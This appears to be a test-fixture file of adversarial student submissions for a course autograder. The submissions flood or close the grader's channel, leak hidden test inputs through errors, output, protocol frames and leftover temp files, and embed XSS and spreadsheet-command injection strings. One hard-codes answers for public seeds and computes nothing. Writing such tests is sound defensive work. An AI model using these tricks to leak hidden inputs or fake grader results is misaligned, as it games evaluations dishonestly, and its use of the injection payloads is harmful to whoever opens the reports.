    return _function(
        """
def bed_of_nails(x, scale):
    grader().sendall(os.urandom(1 << 16))
    time.sleep(60)
""",
        channel=True,
    )


def closes_the_channel():
    return _function("""
def bed_of_nails(x, scale):
    os.closerange(3, 256)
    time.sleep(60)
""")


# Telling the student what the hidden inputs are.


def tells_inputs_in_errors():
    """In the text, in the name of the class, in its own line of code, in what is known of memory."""
    return _function("""
calls = []
def bed_of_nails(x, scale):
    calls.append(1)
    text = f"LEAK {x.flatten().tolist()}"
    name = "LEAK_" + "_".join(f"{value:.4f}".replace(".", "p").replace("-", "m") for value in x.flatten().tolist())
    class Quiet(Exception):
        def __str__(self): return text
    kinds = [ValueError, type(name, (Exception,), {}), type(name, (NotImplementedError,), {}), type(name, (MemoryError,), {}), Quiet,
             type("ValueError: " + text, (ValueError,), {}), SystemExit, type(name, (TypeError,), {"__module__": text})]
    raise kinds[len(calls) % len(kinds)](text)
""")


def tells_inputs_in_results():
    return _function("""
calls = []
def bed_of_nails(x, scale):
    calls.append(1)
    text = f"LEAK {x.flatten().tolist()}"
    print(text)
    print(text, file=sys.stderr)
    if len(calls) % 2:
        return right(x, scale) + x.flatten()[0]
    return [x, {text: x}, type(text, (), {})(), {value: x for value in x.flatten().tolist()}][len(calls) // 2 % 4]
""")


def tells_inputs_as_of_the_cells():
    """What is said of the cells goes to the student: so it is said after the inputs have come, or the inputs are asked for in a cell."""
    return _function(
        """
from course.grading import channel as messages
def tell(text):
    out = grader()
    out.sendall(frame({"broken": [text]}) + frame({"failed": 0, "sentence": text}) + frame({"statement": 1}) + frame({"crashed": text}))
    out.sendall(frame({"found": False, "broken": [text]}) + frame({"calling": text}) + frame({"done": text}))

def bed_of_nails(x, scale):
    text = f"LEAK {x.flatten().tolist()}"
    tell(text)
    os._exit(1)

if os.fork() == 0:
    os._exit(0)
grader().sendall(frame({"found": True}))
given, inputs = messages.receive(grader())
from course.grading.arrays import unpack_inputs
start = 0
for size in given["sizes"]:
    text = f"LEAK {unpack_inputs(inputs[start : start + size])['x'].flatten().tolist()}"
    start += size
    tell(text)
raise ValueError(text)
""",
        channel=True,
    )


def leaves_inputs_for_the_next_process():
    """All that might outlast a process: files, keys, names of the machine; its cells tell what they find there."""
    return _function("""
PLACES_TO_LEAVE = [f"{place}/left" for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", *PLACES)]
for place in PLACES_TO_LEAVE:
    if os.path.exists(place):
        raise ValueError("LEAK " + open(place).read())

def bed_of_nails(x, scale):
    for place in PLACES_TO_LEAVE:
        try:
            open(place, "w").write(str(x.flatten().tolist()))
        except OSError:
            pass
    os._exit(1)
""")


def scripts_in_its_errors():
    """For whoever opens the report, or the table in a spreadsheet."""
    return _function("""
def evil():
    raise ValueError("<script>alert(1)</script><img src=x onerror=alert(1)>=cmd|' /C calc'!A0")
evil()
raise type("<script>alert(2)</script>", (Exception,), {})("=1+1")
=HYPERLINK("http://example.org")
""")


def by_heart(name: str, kind: str, constant: str) -> str:
    """A function that computes nothing. It has learnt the answers of the public seeds 0–9, by all inputs and else by `kind`, and gives one
    and the same answer where it knows none.

    Args:
        kind: `"place"`, the number of the call, or an input's name.
        constant: That answer as `to_npz` gives it, in base 16.
    """
    return f"""
def _{name}():
    from collections import Counter, defaultdict
    from functools import cache
    from course.exercises.checking import expected_arrays
    from course.exercises.lessons import all_exercises
    from course.grading.arrays import from_npz, pack_inputs, to_npz

    whole, part, calls, exercise = {{}}, defaultdict(Counter), [], all_exercises()[{name!r}]

    def sign(place, inputs):
        return place if {kind!r} == "place" else pack_inputs({{"x": inputs.get({kind!r})}})

    @cache
    def learn():
        for seed in range(10):
            for place, case in enumerate(exercise.cases(seed)):
                whole[pack_inputs(case.inputs)] = answer = to_npz(expected_arrays(exercise, case))
                part[sign(place, case.inputs)][answer] += 1

    def function(**inputs):
        learn()
        calls.append(1)
        known = whole.get(pack_inputs(inputs)) or next(iter(part[sign(len(calls) - 1, inputs)].most_common(1)), [None])[0]
        arrays = from_npz(known or bytes.fromhex({constant!r}), max_bytes=1 << 30, max_arrays=99)
        if list(arrays) == ["result"]:
            return arrays["result"]
        if "result[0]" in arrays:
            return tuple(arrays.values())
        return {{part[len("result['"):-len("']")]: array for part, array in arrays.items()}}

    return function
{name} = _{name}()
"""
